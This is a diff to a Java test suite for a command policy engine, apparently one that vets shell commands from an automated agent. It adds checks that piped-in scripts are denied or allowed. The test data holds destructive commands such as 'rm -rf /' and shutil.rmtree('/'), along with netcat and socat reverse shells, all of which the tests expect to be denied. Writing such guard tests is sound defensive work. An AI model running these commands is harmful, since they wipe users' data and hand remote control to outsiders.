@@ -119,6 +119,20 @@ class PolicyEngineTest {
   }
 
   @Test
+  void textPipedIntoAShellIsCheckedAsItsScriptOrDeniedWhenUnknown() {
+    assertDenied("cat <<'X' | sh\nrm -rf /\nX", "destroy.outside-workspace");
+    assertDenied("echo 'rm -rf ~' | bash", "destroy.outside-workspace");
+    assertDenied("cat <<'X' | python3\nimport shutil; shutil.rmtree('/')\nX", "destroy.outside-workspace");
+    assertDenied("awk 'BEGIN{print \"ls\"}' | sh", "shell.unresolved-command");
+    assertDenied("head -1 <<< 'rm -rf /' | sh", "shell.unresolved-command");
+    assertDenied("cat scripts/build.sh | bash", "shell.unresolved-command");
+    assertThat(shell("sed p x | sh").reason()).contains("piped from sed");
+    assertAllowed("echo 'mvn -B verify' | sh");
+    assertAllowed("cat <<'X' | bash\nmake test\nX");
+    assertAllowed("bash scripts/build.sh");
+  }
+
+  @Test
   void reverseShellsAreDenied() {
     assertDenied("nc -e /bin/sh 10.0.0.1 4444", "network.reverse-shell");
     assertDenied("socat tcp:10.0.0.1:1 exec:/bin/sh", "network.reverse-shell");
